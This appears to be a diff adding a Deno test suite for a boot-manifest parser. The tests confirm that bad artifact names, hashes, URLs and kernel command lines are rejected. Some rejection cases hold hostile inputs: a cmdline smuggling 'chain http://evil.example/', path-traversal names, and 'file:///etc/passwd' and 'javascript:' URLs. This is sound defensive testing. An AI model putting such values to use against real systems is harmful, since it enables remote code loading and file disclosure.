@@ -1,0 +1,217 @@
+import assert from "node:assert/strict";
+import fc from "fast-check";
+import {
+  artifactsByRole,
+  artifactUrls,
+  parseManifest,
+} from "../../lib/manifest/boot_manifest.ts";
+import type {
+  JsonObject,
+  JsonValue,
+} from "../../lib/manifest/canonical_json.ts";
+
+const HASH = "0123456789abcdef".repeat(4);
+
+function artifact(filename: string, changes: JsonObject = {}): JsonObject {
+  return {
+    filename,
+    hash: `sha256:${HASH}`,
+    size: 10485760,
+    urls: [filename, `/blobs/sha256/${HASH}`],
+    ...changes,
+  };
+}
+
+function content(changes: JsonObject = {}): JsonObject {
+  return {
+    manifest_version: 1795334400,
+    version: "2026.11.22",
+    channel: "stable",
+    arch: "arm64",
+    created_at: "2026-11-22T12:00:00Z",
+    expires_at: "2026-12-22T12:00:00Z",
+    artifacts: { kernel: artifact("vmlinuz") },
+    ...changes,
+  };
+}
+
+function reasonFor(value: JsonValue): string {
+  const result = parseManifest(value);
+  assert.ok(!result.ok, JSON.stringify(value));
+  return result.reason;
+}
+
+Deno.test("parseManifest() reads a kernel alone", () => {
+  const result = parseManifest(content());
+  assert.deepEqual(result, {
+    ok: true,
+    value: {
+      image: { channel: "stable", arch: "arm64" },
+      manifestVersion: 1795334400,
+      version: "2026.11.22",
+      createdAtMs: Date.UTC(2026, 10, 22, 12),
+      expiresAtMs: Date.UTC(2026, 11, 22, 12),
+      kernel: {
+        filename: "vmlinuz",
+        sha256: HASH,
+        sizeBytes: 10485760,
+        urls: ["vmlinuz", `/blobs/sha256/${HASH}`],
+      },
+      dtbs: [],
+    },
+  });
+});
+
+Deno.test("parseManifest() reads every role, device trees by name", () => {
+  const result = parseManifest(content({
+    cmdline: "console=ttyS0 quiet",
+    artifacts: {
+      kernel: artifact("vmlinuz"),
+      initramfs: artifact("initramfs.img"),
+      rootfs: artifact("rootfs.squashfs"),
+      dtbs: { "b.dtb": artifact("b.dtb"), "a.dtb": artifact("a.dtb") },
+    },
+  }));
+  assert.ok(result.ok);
+  assert.equal(result.value.cmdline, "console=ttyS0 quiet");
+  assert.deepEqual([...artifactsByRole(result.value).keys()], [
+    "kernel",
+    "initramfs",
+    "rootfs",
+    "a.dtb",
+    "b.dtb",
+  ]);
+});
+
+Deno.test("parseManifest() lets members pass that it does not know", () => {
+  assert.ok(parseManifest(content({ min_client: "2" })).ok);
+});
+
+Deno.test("parseManifest() makes the arch canonical", () => {
+  const result = parseManifest(content({ arch: "aarch64" }));
+  assert.ok(result.ok);
+  assert.equal(result.value.image.arch, "arm64");
+});
+
+Deno.test("parseManifest() names what is missing or wrong", () => {
+  const wrong: readonly (readonly [JsonObject, RegExp])[] = [
+    [{ manifest_version: undefined }, /^manifest_version is not a whole/],
+    [{ manifest_version: 0 }, /^manifest_version/],
+    [{ manifest_version: -1 }, /^manifest_version/],
+    [{ manifest_version: 1.5 }, /^manifest_version/],
+    [{ manifest_version: 2 ** 53 }, /^manifest_version/],
+    [{ manifest_version: "1" }, /^manifest_version/],
+    [{ version: "" }, /^version/],
+    [{ version: "1\n2" }, /^version/],
+    [{ version: "x".repeat(65) }, /^version/],
+    [{ channel: "../etc" }, /^channel/],
+    [{ channel: "Stable" }, /^channel/],
+    [{ arch: null }, /^arch/],
+    [{ created_at: "yesterday" }, /^created_at is not a UTC time/],
+    [{ expires_at: 1795334400 }, /^expires_at/],
+    [{ cmdline: "quiet\nchain http://evil.example/" }, /^cmdline/],
+    [{ cmdline: "x".repeat(4097) }, /^cmdline/],
+    [{ artifacts: [] }, /^artifacts is not an object/],
+    [{ artifacts: {} }, /^artifacts.kernel is not an object/],
+    [{ artifacts: { kernel: artifact("vmlinuz"), rootfs: null } }, /rootfs/],
+  ];
+  for (const [changes, reason] of wrong) {
+    assert.match(reasonFor(content(changes)), reason);
+  }
+  assert.equal(reasonFor([]), "the document is not an object");
+});
+
+Deno.test("parseManifest() names what is wrong with an artifact", () => {
+  const wrong: readonly (readonly [JsonObject, RegExp])[] = [
+    [{ hash: HASH }, /kernel.hash/],
+    [{ hash: `sha256:${HASH.toUpperCase()}` }, /kernel.hash/],
+    [{ hash: `sha256:${HASH.slice(1)}` }, /kernel.hash/],
+    [{ size: -1 }, /kernel.size/],
+    [{ size: 1e300 }, /kernel.size/],
+    [{ urls: [] }, /kernel.urls/],
+    [{ urls: ["a", 1] }, /kernel.urls.1/],
+    [{ urls: new Array(17).fill("a") }, /kernel.urls/],
+  ];
+  for (const [changes, reason] of wrong) {
+    const artifacts = { kernel: artifact("vmlinuz", changes) };
+    assert.match(reasonFor(content({ artifacts })), reason);
+  }
+});
+
+Deno.test("parseManifest() refuses file names that could leave or spoil a directory", () => {
+  const names = [
+    "",
+    ".",
+    "..",
+    "../vmlinuz",
+    "a/b",
+    "a\\b",
+    ".hidden",
+    "-rf",
+    "a b",
+    "a\nb",
+    "vmlinuz.part",
+    "manifest.json",
+    "x".repeat(256),
+  ];
+  for (const name of names) {
+    const artifacts = { kernel: artifact(name, { urls: ["k"] }) };
+    assert.match(reasonFor(content({ artifacts })), /kernel.filename/, name);
+  }
+});
+
+Deno.test("parseManifest() refuses two files of one name and wrong device tree names", () => {
+  const kernel = artifact("vmlinuz");
+  assert.match(
+    reasonFor(content({ artifacts: { kernel, initramfs: kernel } })),
+    /^artifacts/,
+  );
+  const dtbs: readonly JsonObject[] = [
+    { "a.dtb": artifact("b.dtb") },
+    { "kernel": artifact("kernel") },
+    { "a\u001b.dtb": artifact("a.dtb") },
+  ];
+  for (const trees of dtbs) {
+    const reason = reasonFor(content({ artifacts: { kernel, dtbs: trees } }));
+    assert.match(reason, /^artifacts.dtbs/);
+    assert.doesNotMatch(reason, /\p{Cc}/u);
+  }
+});
+
+Deno.test("parseManifest() refuses references that leave the provider", () => {
+  const urls = [
+    "http://other.example/vmlinuz",
+    "https:vmlinuz",
+    "//other.example/vmlinuz",
+    "/\\other.example/vmlinuz",
+    "file:///etc/passwd",
+    "javascript:alert(1)",
+    "http://provider.invalid/vmlinuz",
+  ];
+  for (const url of urls) {
+    const artifacts = { kernel: artifact("vmlinuz", { urls: [url] }) };
+    assert.match(reasonFor(content({ artifacts })), /kernel.urls/, url);
+  }
+});
+
+Deno.test("parseManifest() never throws", () => {
+  fc.assert(fc.property(fc.jsonValue(), (value) => {
+    const plain: JsonValue = JSON.parse(JSON.stringify(value));
+    parseManifest(plain);
+    parseManifest(content({ artifacts: plain }));
+    parseManifest(content({ artifacts: { kernel: plain, dtbs: plain } }));
+  }));
+});
+
+Deno.test("artifactUrls() resolves against where the manifest came from", () => {
+  const result = parseManifest(content());
+  assert.ok(result.ok);
+  const urls = artifactUrls(
+    result.value.kernel,
+    new URL("http://192.0.2.7:8080/stable/arm64/manifest.json"),
+  );
+  assert.deepEqual(urls.map(String), [
+    "http://192.0.2.7:8080/stable/arm64/vmlinuz",
+    `http://192.0.2.7:8080/blobs/sha256/${HASH}`,
+  ]);
+});
